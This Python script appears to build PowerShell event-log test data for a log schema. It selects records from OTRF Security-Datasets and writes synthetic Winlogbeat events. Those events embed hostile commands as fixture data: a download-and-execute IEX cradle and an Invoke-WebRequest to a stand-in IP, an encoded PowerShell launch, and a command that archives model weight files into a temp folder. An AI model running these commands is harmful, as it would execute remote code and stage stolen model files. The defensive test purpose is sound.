#!/usr/bin/env python3
"""Selects events of PowerShell's log from OTRF Security-Datasets and makes synthetic ones.

Windows does not run here, so nothing is recorded.

Usage    microsoft.powershell.py [EVENTS.ndjson[.gz]]
Needs    for the selection: a file of flat Windows events, one a line, from
         OTRF Security-Datasets (MIT licence); without it only the synthetic
         file is written.
Installs nothing.
Writes   schemas/sources/microsoft.powershell/testdata/otrf.ndjson
         schemas/sources/microsoft.powershell/testdata/synthetic_winlogbeat.ndjson

The selection takes whole records of the channel Microsoft-Windows-PowerShell/Operational
and changes nothing in them: script blocks and command invocations that differ
first, up to BYTES.
"""

import gzip
import json
import sys

import common
import synthetic as s

CHANNEL = "Microsoft-Windows-PowerShell/Operational"
BYTES, EACH = 500_000, {4104: 30, 4103: 40}


def select(path):
    out, count, seen, size = [], {}, set(), 0
    with (gzip.open(path, "rb") if path.endswith(".gz") else open(path, "rb")) as f:
        for line in f:
            e = json.loads(line)
            if e.get("Channel") != CHANNEL:
                continue
            key = (e["EventID"], str(e.get("ScriptBlockText", e.get("Payload", "")))[:60], e.get("Hostname"))
            if key in seen or count.get(e["EventID"], 0) >= EACH.get(e["EventID"], 2) or size + len(line) > BYTES or len(line) > 30_000:
                continue
            seen.add(key)
            count[e["EventID"]] = count.get(e["EventID"], 0) + 1
            size += len(line)
            out.append(line.rstrip(b"\n"))
    return out


def beat(i, code, data):
    return {"@timestamp": s.at(i), "ecs": {"version": "8.17.0"}, "agent": {"type": "winlogbeat", "version": "9.2.0"}, "event": {"code": str(code), "kind": "event", "provider": "Microsoft-Windows-PowerShell"}, "host": {"name": "ws-7.corp.example"},
            "log": {"level": "warning"}, "message": "Creating Scriptblock text", "winlog": {"channel": CHANNEL, "provider_name": "Microsoft-Windows-PowerShell", "event_id": str(code), "record_id": str(700 + i), "computer_name": "ws-7.corp.example",
            "api": "wineventlog", "opcode": "On create calls", "task": "Execute a Remote Command", "process": {"pid": 4248, "thread": {"id": 4}}, "user": {"identifier": "S-1-5-21-1-2-3-1001", "name": "ana", "domain": "CORP", "type": "User"}, "version": 1,
            "event_data": data}}


BEAT = [
    beat(1, 4104, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/p')", "ScriptBlockId": "f1b0e1b5-46d0-4dfd-89a3-8131669297a9", "Path": ""}),
    beat(2, 4104, {"MessageNumber": "1", "MessageTotal": "2", "ScriptBlockText": "Get-ChildItem C:\\models -Filter *.safetensors | Compress-Archive -DestinationPath C:\\Windows\\Temp\\w.zip", "ScriptBlockId": "f1b0e1b5-46d0-4dfd-89a3-8131669297aa", "Path": "C:\\Users\\ana\\x.ps1"}),
    beat(3, 4103, {"ContextInfo": "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell -enc SQBFAFgA\r\n        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        User = CORP\\ana\r\n",
         "Payload": "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://198.51.100.9/p\"\r\n"}),
    beat(4, 4105, {"ScriptBlockId": "f1b0e1b5-46d0-4dfd-89a3-8131669297a9", "RunspaceId": "06573bb8"}),
    beat(5, 40961, {}), beat(6, 53504, {"param1": "4248", "param2": "DefaultAppDomain"}),
]

if __name__ == "__main__":
    if len(sys.argv) > 1:
        common.write(common.testdata("microsoft.powershell") / "otrf.ndjson", b"\n".join(select(sys.argv[1])) + b"\n")
    s.write("microsoft.powershell", "synthetic_winlogbeat.ndjson", BEAT)
